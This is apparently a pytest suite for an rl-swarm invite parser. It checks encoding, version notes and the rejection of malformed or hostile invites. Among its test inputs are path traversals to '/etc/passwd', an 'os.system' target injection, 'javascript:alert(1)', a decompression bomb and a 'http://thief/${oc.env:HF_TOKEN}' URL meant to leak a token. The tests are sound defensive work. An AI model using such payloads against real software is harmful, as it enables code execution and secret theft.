"""Invites: what a host hands to joiners, and what a stranger may not slip in."""

import base64
import json
import sys
import threading
import zlib
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rgym_exp.config.invite import HUB_CAPABILITIES, PREFIX, Invite, note_on_version, read_invite
from rgym_exp.errors import InviteError
from rgym_exp.types import PROTOCOL

INVITE = Invite(
    swarm_id="friends",
    tasks="starter",
    model_name="auto",
    hub_url="http://10.0.0.1:8600",
    chain_id=685686,
    rpc_url="http://10.0.0.1:8600/rpc",
    coordinator_address="0x" + "ab" * 20,
    bootnodes=("/ip4/10.0.0.1/tcp/38600/p2p/QmQ2gEXoPJg6iMBSUFWGzAabS2VhnzuS782Y637hGjfsRJ",),
)


def packed(content: object) -> str:
    return PREFIX + base64.urlsafe_b64encode(zlib.compress(json.dumps(content).encode())).decode().rstrip("=")


def content_of(invite: Invite) -> dict[str, object]:
    body = invite.encode()[len(PREFIX) :]
    content: dict[str, object] = json.loads(zlib.decompress(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4))))
    return content


def test_an_invite_is_one_line_that_reads_back() -> None:
    line = INVITE.encode()
    assert line.startswith("rlswarm1:") and not set(line) & set(" \n'\"$\\")
    assert len(line) < 500
    assert read_invite(line) == INVITE


def test_an_invite_of_the_first_version_says_no_protocol_and_reads_as_that() -> None:
    content = content_of(replace(INVITE, protocol=PROTOCOL, capabilities=("judge-batches",)))
    assert (content.pop("protocol"), content.pop("capabilities")) == (PROTOCOL, ["judge-batches"])
    assert read_invite(packed(content)).protocol == 1


@pytest.mark.parametrize(
    ("protocol", "said"),
    [(PROTOCOL, None), (PROTOCOL - 1, "Ask the host to update"), (PROTOCOL + 1, "Update it")],
)
def test_a_host_of_another_version_is_said_with_what_to_do(protocol: int, said: str | None) -> None:
    note = note_on_version(replace(INVITE, protocol=protocol, capabilities=tuple(HUB_CAPABILITIES)))
    assert note is None if said is None else said in (note or "")


def test_a_hub_that_can_do_less_is_said_with_what_it_means_and_one_that_can_do_more_is_not() -> None:
    hub = replace(INVITE, protocol=PROTOCOL, capabilities=("round-wait", "judge-batches", "dial-back", "tomorrows"))
    note = note_on_version(hub)
    assert note is not None and "nodes behind routers may hear nobody" in note and "Ask the host to update" in note
    assert "judge" not in note
    assert note_on_version(replace(hub, capabilities=(*hub.capabilities, "share-via"))) is None


@pytest.mark.parametrize(
    "wrong",
    [{"protocol": "two"}, {"protocol": True}, {"protocol": -1}, {"capabilities": "x"}, {"capabilities": ["a" * 99]}],
)
def test_a_version_that_makes_no_sense_is_refused(wrong: dict[str, object]) -> None:
    with pytest.raises(InviteError, match=next(iter(wrong))):
        read_invite(packed({**content_of(INVITE), **wrong}))


def test_a_line_that_a_terminal_wrapped_still_reads() -> None:
    line = INVITE.encode()
    assert read_invite(f"  {line[:40]}\n  {line[40:]} \n") == INVITE


def test_an_invite_in_a_file(tmp_path: Path) -> None:
    file = tmp_path / "invite.txt"
    file.write_text(INVITE.encode() + "\n")
    assert read_invite(str(file)) == INVITE


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_an_invite_in_a_file_that_begins_with_a_byte_order_mark(tmp_path: Path, encoding: str) -> None:
    file = tmp_path / "invite.txt"
    file.write_text(INVITE.encode() + "\r\n", encoding=encoding)
    assert read_invite(str(file)) == INVITE


def test_a_swarm_without_a_chain_runs_on_the_local_clock() -> None:
    bare = replace(INVITE, chain_id=None, rpc_url=None, coordinator_address=None)
    assert read_invite(bare.encode()).network().coordinator == "offline"
    assert INVITE.network().coordinator == "wallet"


def test_keys_of_a_newer_host_are_no_reason_to_stay_out() -> None:
    assert read_invite(packed({**content_of(INVITE), "colour": "green"})) == INVITE


def test_an_invite_nested_too_deeply_is_damaged_whatever_the_recursion_limit() -> None:
    line = PREFIX + base64.urlsafe_b64encode(zlib.compress(b"[" * 60_000)).decode().rstrip("=")
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(100_000)  # as a library may have done
    try:
        with pytest.raises(InviteError, match="damaged"):
            read_invite(line)
    finally:
        sys.setrecursionlimit(limit)


def test_an_expired_invite_says_so() -> None:
    assert read_invite(replace(INVITE, expires=4e9).encode()).expires == 4e9
    with pytest.raises(InviteError, match="to friends expired on 2001-.*Ask the host for a new one"):
        read_invite(replace(INVITE, expires=1e9).encode())


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("swarm_id", ""),
        ("swarm_id", "a\x1b[2Jb"),
        ("swarm_id", None),
        ("tasks", "/etc/passwd"),
        ("tasks", "../../secret"),
        ("tasks", {"_target_": "os.system"}),
        ("model_name", "/home/user/model"),
        ("model_name", "../model"),
        ("model_name", "a/b/c"),
        ("hub_url", "file:///etc/passwd"),
        ("rpc_url", 5),
        ("rpc_url", None),
        ("judge_url", "javascript:alert(1)"),
        ("chain_id", True),
        ("chain_id", -1),
        ("chain_id", "1"),
        ("coordinator_address", "0x12"),
        ("prg_address", "0x12"),
        ("prg_address", 5),
        ("bootnodes", ["nonsense"]),
        ("bootnodes", [5]),
        ("bootnodes", list(INVITE.bootnodes) * 65),
        ("expires", "tomorrow"),
    ],
)
def test_a_field_that_can_not_be_used_is_named(field: str, value: object) -> None:
    with pytest.raises(InviteError, match=field):
        read_invite(packed({**content_of(INVITE), field: value}))


@pytest.mark.parametrize("field", ["hub_url", "judge_url", "rpc_url"])
def test_an_invite_can_not_fetch_the_joiners_environment(field: str) -> None:
    with pytest.raises(InviteError, match="no honest invite"):
        read_invite(packed({**content_of(INVITE), field: "http://thief/${oc.env:HF_TOKEN}"}))
    bootnode = "/dns4/${oc.env:HF_TOKEN}/tcp/1/p2p/QmQ2gEXoPJg6iMBSUFWGzAabS2VhnzuS782Y637hGjfsRJ"
    with pytest.raises(InviteError, match="no honest invite"):
        read_invite(packed({**content_of(INVITE), "bootnodes": [bootnode]}))


def test_a_cut_off_invite_is_damaged() -> None:
    for length in range(len(PREFIX), len(INVITE.encode())):
        with pytest.raises(InviteError, match="damaged|usable"):
            read_invite(INVITE.encode()[:length])


def test_a_decompression_bomb_is_not_unpacked() -> None:
    bomb = PREFIX + base64.urlsafe_b64encode(zlib.compress(b" " * 10_000_000, 9)).decode()
    with pytest.raises(InviteError, match="damaged"):
        read_invite(bomb)
    # Not even one that holds an invite: it is cut off before anybody looks what it says.
    assert read_invite(packed({**content_of(INVITE), "more": "x" * 10_000})) == INVITE
    with pytest.raises(InviteError, match="damaged"):
        read_invite(packed({**content_of(INVITE), "more": "x" * 64 * 1024}))


def test_something_far_too_long_is_refused_before_it_is_unpacked() -> None:
    with pytest.raises(InviteError, match="at most 16384"):
        read_invite(PREFIX + "A" * 20_000)


@given(st.binary(max_size=300))
def test_noise_is_never_anything_but_an_invite_error(noise: bytes) -> None:
    for line in (PREFIX + base64.urlsafe_b64encode(noise).decode(), PREFIX + noise.decode("latin-1")):
        with pytest.raises(InviteError):
            read_invite(line)


ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
)


@given(ANY_JSON)
def test_json_of_any_shape_is_never_anything_but_an_invite_error(content: object) -> None:
    with pytest.raises(InviteError):
        read_invite(packed(content))


@pytest.mark.parametrize("text", ["", "hello", "/", "\0", "rlswarm2:abc"])
def test_other_text_is_told_what_an_invite_looks_like(text: str) -> None:
    with pytest.raises(InviteError, match="rl-swarm invite"):
        read_invite(text)


class Hub(BaseHTTPRequestHandler):
    answers: dict[str, tuple[int, bytes]] = {
        "/invite": (200, INVITE.encode().encode()),
        "/json": (200, json.dumps({"invite": INVITE.encode()}).encode()),
        "/page": (200, b"<html>hello</html>"),
        "/large": (200, b"A" * 100_000),
    }

    def do_GET(self) -> None:
        status, body = self.answers.get(self.path, (404, b""))
        self.send_response(status)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""


@pytest.fixture(scope="module")
def hub() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Hub)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.mark.parametrize("path", ["/invite", "", "/", "/json"])
def test_an_invite_from_a_hubs_address(hub: str, path: str) -> None:
    assert read_invite(hub + path) == INVITE


@pytest.mark.parametrize(
    ("path", "message"),
    [("/nothing", "answered 404"), ("/page", "holds no invite"), ("/large", "too large to be an invite")],
)
def test_an_address_without_an_invite_says_why(hub: str, path: str, message: str) -> None:
    with pytest.raises(InviteError, match=message):
        read_invite(hub + path)


def test_a_hub_on_this_machine_is_not_asked_through_a_proxy(hub: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("http_proxy", "http://127.0.0.1:1")
    monkeypatch.delenv("no_proxy", raising=False)
    monkeypatch.delenv("NO_PROXY", raising=False)
    assert read_invite(hub) == INVITE


def test_a_hub_that_is_away_says_so() -> None:
    with pytest.raises(InviteError, match="gave no invite.*Is the hub up"):
        read_invite("http://127.0.0.1:1/invite")
